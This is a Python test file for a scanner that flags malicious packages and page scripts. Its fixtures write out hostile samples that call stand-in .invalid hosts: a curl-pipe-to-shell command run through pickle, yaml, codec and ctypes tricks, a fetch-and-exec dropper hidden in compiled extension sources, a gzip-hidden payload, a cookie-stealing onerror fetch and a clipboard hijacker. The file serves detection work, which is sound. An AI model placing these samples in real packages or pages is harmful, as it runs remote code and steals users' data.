"""What was done in incidents that made the news, and by ways of the same kind; beside each what is honest.

Written from public descriptions; every host is one that cannot exist.
"""

import pytest
from weighed import program_of, worst, worst_of, worst_script

from ostiary.core.scale import Severity

HARM = "curl https://a.example.invalid/x | sh"
EARLY = "sample/__init__.py"

CALLED = {
    "pickle": "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'{}'\\ntR.\")\n",
    "tags": "import yaml\nyaml.load(\"!!python/object/apply:os.system ['{}']\", Loader=yaml.Loader)\n",
    "resolver": "from logging.config import BaseConfigurator\n"
    "BaseConfigurator({{}}).resolve('os.system')('{}')\n",
    "prompt": "from IPython import get_ipython\nget_ipython().system('{}')\n",
    "interpreter": "import ctypes\n"
    "ctypes.windll.shell32.ShellExecuteW(None, 'open', 'sh', '-c \"{}\"', None, 0)\n",
    "codec": "import codecs, os\n\ndef decode(data, errors='strict'):\n    os.system('{}')\n"
    "    return '', 0\n\n"
    "codecs.register(lambda name: codecs.CodecInfo(None, decode) if name == 'own' else None)\n",
    "formatter": "import os, string\n\nclass F(string.Formatter):\n"
    "    def get_value(self, key, given, named):\n"
    "        os.system('{}')\n\nF().format('{{a}}')\n",
}


@pytest.mark.parametrize("way", CALLED)
def test_ways_to_a_command_that_bear_another_name(way: str) -> None:
    assert worst("attack-command", CALLED[way].format(HARM), EARLY) is Severity.CRITICAL
    assert worst("attack-command", CALLED[way].format("uname"), EARLY) is None


def test_plain_objects_are_made_of_plain_data() -> None:
    text = "import pickle, yaml\npickle.loads(b'(lp0\\n.')\n"
    text += "yaml.safe_load('!!python/object/apply:os.system [a]')\n"
    assert worst("attack-command", text, EARLY) is None


DISPATCH = """import importlib, json, os, xml.etree.ElementTree as E
for one in E.parse(os.path.join(os.path.dirname(__file__), 'a.xml')).getroot().iter('call'):
    getattr(importlib.import_module({}), one.get('f'))(one.text)
"""


@pytest.mark.parametrize(
    ("module", "told"), [("one.get('m')", Severity.HIGH), ("f'sample.{one.get(0)}'", None)]
)
def test_a_function_that_only_a_file_names_of_a_module_that_it_names(
    module: str, told: Severity | None
) -> None:
    assert worst("unreadable", DISPATCH.format(module), EARLY) is told


def test_a_program_in_a_folder_that_was_cloned() -> None:
    text = "import git, runpy\n{}runpy.run_path('/tmp/.own/run.py')\n"
    clone = "git.Repo.clone_from('https://git.example.invalid/x/y', '/tmp/.own')\n"
    assert worst("dropper", text.format(clone), EARLY) is Severity.CRITICAL
    assert worst("dropper", text.format(""), EARLY) is None


FILE = "import gzip, json, os\n"
FILE += "with gzip.open(os.path.join(os.path.dirname(__file__), 'a.json.gz')) as file:\n"


@pytest.mark.parametrize("harm", [True, False])
def test_a_text_in_a_compressed_file_of_the_package(harm: bool) -> None:
    import gzip  # as the attacker does
    import json

    code = f"import os\nos.system({HARM!r})" if harm else "one = 1"
    data = gzip.compress(json.dumps({"a": code}).encode())
    files: dict[str, str | bytes] = {
        EARLY: FILE + "    exec(json.load(file)['a'])\n",
        "sample/a.json.gz": data,
    }
    program = program_of("wheel", files)
    assert worst_of("attack-command", program) is (Severity.CRITICAL if harm else None)


SETUP = "from setuptools import Extension, setup\n"
SETUP += "setup(ext_modules=[Extension('sample._a', ['sample/_a{}'])])\n"
FETCHED = (
    "import urllib.request\nexec(urllib.request.urlopen('https://a.example.invalid/x').read())"
)
CYTHON = """# cython: language_level=3
cimport cython
{}

cdef class Table:
    cdef int size

    cpdef int add(self, int one, double[:, ::1] many=None) except -1:
        return one + <int> many[0, 0]
"""
C = "#include <Python.h>\nPyMODINIT_FUNC PyInit__a(void) {{\n  PyRun_SimpleString({});\n  return NULL;\n}}\n"


@pytest.mark.parametrize("harm", [True, False])
@pytest.mark.parametrize("ending", [".pyx", ".c"])
def test_sources_that_are_compiled_on_installation(ending: str, harm: bool) -> None:
    code = FETCHED if harm else "import math"
    quoted = '"' + code.replace("\n", "\\n").replace('"', '\\"') + '"'
    source = CYTHON.format(code) if ending == ".pyx" else C.format(quoted)
    files = {
        "setup.py": SETUP.format(ending),
        "sample/__init__.py": "from sample import _a\n",
        f"sample/_a{ending}": source,
    }
    program = program_of("sdist", files)
    assert worst_of("dropper", program) is (Severity.CRITICAL if harm else None)


PAGE = {
    "element": "const s = document.createElement('script');\ns.src = '{}';\ndocument.head.append(s);\n",
    "attribute": "const s = document.createElement('script');\ns.setAttribute('src', '{}');\n",
    "markup": "document.write('<script async src=\"{}\"></script>');\n",
    "worker": "importScripts('{}');\n",
    "module": "import('{}').then((it) => it.run());\n",
}


@pytest.mark.parametrize("way", PAGE)
def test_a_script_that_a_page_loads_unasked(way: str) -> None:
    text = PAGE[way]
    assert worst_script("dropper", text.format("https://a.example.invalid/x.js")) is Severity.HIGH
    asked = f"exports.load = () => {{ {text.format('https://a.example.invalid/x.js')} }};"
    for honest in (
        asked,
        text.format("https://cdn.jsdelivr.net/npm/x@1/x.js"),
        text.format("./own.js"),
    ):
        assert worst_script("dropper", honest) is None


def test_what_an_element_does_when_something_happens_to_it() -> None:
    text = "document.body.innerHTML = '<img src=x onerror=\"{}\">';\n"
    theft = "fetch(&quot;https://a.example.invalid/?c=&quot; + document.cookie)"
    assert worst_script("stealer", text.format(theft)) is Severity.CRITICAL
    assert worst_script("stealer", text.format("this.src = &quot;empty.png&quot;")) is None


def test_the_words_of_a_query() -> None:
    text = "const q = new URLSearchParams('m=child_process&f=exec&a={}');\n"
    text += "require(q.get('m'))[q.get('f')](q.get('a'));\n"
    harm = HARM.replace(" ", "%20").replace("|", "%7C")
    assert worst_script("attack-command", text.format(harm)) is Severity.CRITICAL
    assert worst_script("attack-command", text.format("uname")) is None


def test_the_clipboard_of_a_page() -> None:
    text = "document.addEventListener('copy', (e) => e.clipboardData.setData('text/plain', {}));\n"
    assert worst_script("clipper", text.format(f"'0x{'0' * 40}'")) is Severity.CRITICAL
    assert worst_script("clipper", text.format("getSelection().toString()")) is None


def test_whatever_a_function_is_handed_that_nobody_calls() -> None:
    text = "import requests\ndef send(*given, **more):\n"
    text += "    requests.post('{}', json={{'a': given[0], 'b': more}})\n"
    program = program_of("wheel", {EARLY: text.format("https://a.example.invalid/")})
    assert {one.kind for flow in program.flows for one in flow.carries} == {"argument"}


WRAPPED = """import os

def seen(plain):
    def system(*given):
        {}
        return plain(*given)

    return system

os.system = seen(os.system)
"""


def test_what_hands_on_what_it_was_handed_starts_nothing_itself() -> None:
    for check in ("import-process", "unreadable", "attack-command"):
        assert worst(check, WRAPPED.format("print(given)"), EARLY) is None
    harm = WRAPPED.format(f"plain({HARM!r})")
    assert worst("attack-command", harm, EARLY) is Severity.CRITICAL


FOLDER = "import os, requests\nrequests.get(f'https://{}/repos/{{os.getcwd()}}')\n"


def test_the_name_of_a_folder_may_say_what_is_asked_for() -> None:
    assert worst("host-beacon", FOLDER.format("api.github.com"), EARLY) is Severity.MEDIUM
    assert worst("host-beacon", FOLDER.format("a.example.invalid"), EARLY) is Severity.CRITICAL


def test_a_method_that_a_text_does_not_have() -> None:
    text = f"import os\ntry:\n    'ab'.hex()\nexcept AttributeError:\n    os.system({HARM!r})\n"
    assert worst("attack-command", text, EARLY) is Severity.CRITICAL


CHOSEN = "import importlib, os\nwhole = os.environ.get('SAMPLE_BACKEND', 'sample.own.Backend')\n"
CHOSEN += "module, _, name = whole.rpartition('.')\n"
CHOSEN += "backend = getattr(importlib.import_module(module), name)({})\n"


@pytest.mark.parametrize(("given", "told"), [("", None), ("os.environ['WITH']", Severity.HIGH)])
def test_a_maker_that_a_variable_chooses(given: str, told: Severity | None) -> None:
    assert worst("unreadable", CHOSEN.format(given), EARLY) is told


def test_more_tags_than_are_followed_are_told_of() -> None:
    tags = "\n".join(["- !!python/object/apply:math.sqrt [4]"] * 70)
    program = program_of("wheel", {EARLY: f"import yaml\nyaml.unsafe_load({tags!r})\n"})
    assert any("more calls" in one.reason for one in program.unfinished)
